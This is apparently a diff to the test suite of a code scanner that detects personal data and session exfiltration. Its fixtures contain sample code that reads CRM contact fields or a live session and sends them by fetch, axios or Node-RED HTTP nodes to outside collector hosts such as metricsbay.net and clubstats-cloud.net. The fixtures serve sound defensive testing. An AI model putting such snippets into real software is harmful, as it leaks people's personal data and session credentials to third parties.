@@ -349,7 +349,17 @@ describeRuleCases('exfiltration (personal identifiers to an unnamed host)', [
 const CONTACT_PING = (host: string) =>
   `const full = await client.crm.contacts.basicApi.getById(id, ['email', 'firstname', 'lastname', 'phone', 'city']);\nconst COLLECT_URL = 'https://${host}/v1/collect';\nawait axios.post(COLLECT_URL, { contact: full.properties });\n`;
 
+const CONTACT_FETCH = (method: string) =>
+  `const c = await hubspot.crm.contacts.basicApi.getById(id, ['email', 'firstname', 'lastname', 'phone']);\nconst SINK_URL = 'https://in.leadgauge.example/v2/c';\nawait fetch(SINK_URL, { method: '${method}', body: JSON.stringify(c.properties) });\n`;
+
 describeRuleCases('exfiltration (contact records to an undocumented organisation)', [
+  {
+    id: 'SG-EXFIL-049',
+    file: 'sync.mjs',
+    positive: CONTACT_FETCH('PUT'),
+    // A fetch without a body (a lookup) sends no records.
+    negative: CONTACT_FETCH('GET'),
+  },
   {
     id: 'SG-EXFIL-049',
     file: 'action.js',
@@ -365,6 +375,12 @@ describeRuleCases('exfiltration (contact records to an undocumented organisation
 describe('adversarial record sends', () => {
   it('should read 1 MiB of field lists and posts quickly', () => {
     const text = `${"['email', 'phone', 'x', ".repeat(1 << 15)}\n${'axios.post(AB'.repeat(1 << 15)}`;
+    const start = Date.now();
+    personalRecordsToUndocumentedHost([{ path: 'a.js', text }]);
+    expect(Date.now() - start).toBeLessThan(200);
+  });
+  it('should read 500 KiB (the largest script it reads) of field lists and unclosed fetch calls quickly', () => {
+    const text = `${"['email', 'phone', 'city', 'zip'] ".repeat(1 << 13)}\n${'fetch(AB, { x: 1 '.repeat(12000)}`;
     const start = Date.now();
     personalRecordsToUndocumentedHost([{ path: 'a.js', text }]);
     expect(Date.now() - start).toBeLessThan(200);
@@ -966,4 +982,94 @@ it('should scan a 1 MiB workflow of nested actions in under a second', () => {
   expectScansQuickly([text], 'flow/definition.json');
   const flat = `{"actions": {"A": {"type": "Http", "inputs": {"method": "POST", "uri": "https://a.example/x", "body": "${"['Email']".repeat(MiB / 20)}"}}}}`;
   expectScansQuickly([flat], 'flow/definition.json');
+});
+const WIDGET = (body: string, server = 'portal.fleetcore.net') =>
+  [
+    `const CFG = { server: '${server}', upload: 'https://collect.metricsbay.net/v2/upload' };`,
+    'async function share(totals) {',
+    '  const s = await new Promise((r) => api.getSession(r));',
+    `  await fetch(CFG.upload, { method: 'PUT', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(${body}) });`,
+    '}',
+  ].join('\n');
+
+const FLOW = (method: string, url: string) =>
+  JSON.stringify([
+    { id: 't', type: 'tab', label: 'Members' },
+    { id: 'q', type: 'mysql', z: 't', name: 'members', wires: [['b']] },
+    {
+      id: 'b',
+      type: 'function',
+      z: 't',
+      name: 'backup',
+      func: `msg.payload = msg.payload.map((m) => ({ email: m.email, phone: m.phone, first_name: m.first_name }));\nmsg.url = '${url}';\nreturn msg;`,
+      wires: [['h']],
+    },
+    { id: 'h', type: 'http request', z: 't', method, url: '', wires: [[]] },
+  ]);
+
+describeRuleCases('exfiltration (a live session or flow records to another host)', [
+  {
+    id: 'SG-EXFIL-971',
+    file: 'widget/share.js',
+    positive: WIDGET('{ totals, sessionId: s.sessionId }'),
+    negative: WIDGET('{ totals }'),
+  },
+  {
+    id: 'SG-EXFIL-971',
+    file: 'widget/share.js',
+    positive: WIDGET('{ totals, session: s }'),
+    // The application's own server takes its own session.
+    negative: WIDGET('{ totals, session: s }', 'collect.metricsbay.net'),
+  },
+  {
+    id: 'SG-EXFIL-972',
+    file: 'flows/members.json',
+    positive: FLOW('POST', 'https://in.clubstats-cloud.net/v1/members'),
+    negative: FLOW('POST', 'http://nodered.local:1880/members'),
+  },
+  {
+    id: 'SG-EXFIL-972',
+    file: 'flows/members.json',
+    positive: FLOW('PUT', 'https://in.clubstats-cloud.net/v1/members'),
+    negative: FLOW('GET', 'https://in.clubstats-cloud.net/v1/members'),
+  },
+]);
+
+describe('a flow sending records to the service its documentation names', () => {
+  it('should not flag SG-EXFIL-972 when the README names the destination', () => {
+    const ids = findingsOf(
+      FLOW('POST', 'https://in.clubstats-cloud.net/v1/members'),
+      'flows/members.json',
+      undefined,
+      {
+        'README.md':
+          '# Members\n\nCopies the member list to your ClubStats workspace (clubstats-cloud.net).\n',
+      },
+    ).map((f) => f.rule_id);
+    expect(ids).not.toContain('SG-EXFIL-972');
+  });
+});
+
+describe('adversarial session and flow sends', () => {
+  it('should scan 1 MiB of unclosed write calls quickly', () => {
+    const text =
+      `api.getSession(r);\n${"fetch(x, { method: 'POST', body: session, (".repeat(1 << 14)}`.padEnd(
+        1 << 20,
+        '(',
+      );
+    expectScansQuickly([text], 'widget/share.js');
+  });
+  it('should scan a 1 MiB flow of request nodes wired all to all quickly', () => {
+    const ids = Array.from({ length: 12 }, (_, k) => `n${k}`);
+    const nodes = Array.from({ length: 2000 }, (_, i) => ({
+      id: `n${i}`,
+      type: i % 2 ? 'function' : 'http request',
+      method: 'use',
+      url: '',
+      func: i % 2 ? 'return msg;' : undefined,
+      wires: [ids],
+    }));
+    const flow = JSON.stringify(nodes);
+    expectScansQuickly([`${flow.slice(0, -1)}${' '.repeat((1 << 20) - flow.length)}]`], 'flows/big.json');
+  });
 });
